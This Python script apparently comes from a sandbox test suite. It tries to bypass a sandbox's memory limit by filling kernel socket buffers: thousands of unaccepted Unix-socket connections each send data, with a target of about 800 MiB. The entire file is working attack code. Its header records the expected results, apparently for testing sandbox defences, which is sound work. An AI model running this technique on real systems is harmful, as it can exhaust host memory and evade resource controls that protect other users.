"""Connects to itself thousands of times, sends, and leaves before anybody accepts: what was sent stays in the
kernel, and no descriptor leads to it."""

# /// attack
# ran = ["before total"]
# seen = ['your code (took more than|ran for longer)']
# opened = { "kernel's memory" = ["took what the sandbox keeps from it"] }
# ///
# %% before total
import socket
import time

MOST = 800 << 20  # of data, which take more; no more than 4096 may wait
SENT = 0
LISTENER = socket.socket(socket.AF_UNIX)
LISTENER.bind("listener")
LISTENER.listen(4096)


def left():
    """Return how many bytes a caller left behind who has gone."""
    sent = 0
    with socket.socket(socket.AF_UNIX) as caller:
        caller.setblocking(False)
        try:
            caller.connect("listener")
            while True:
                sent += caller.send(bytes(1 << 16))
        except OSError:
            return sent


if left() > 100_000:
    ran("before total")


# %% after total
while SENT < MOST and (sent := left()):
    SENT += sent


# %% after scaled
time.sleep(2 if SENT else 0)
if SENT >= MOST:
    print("took " + ATTACK["process_tag"])
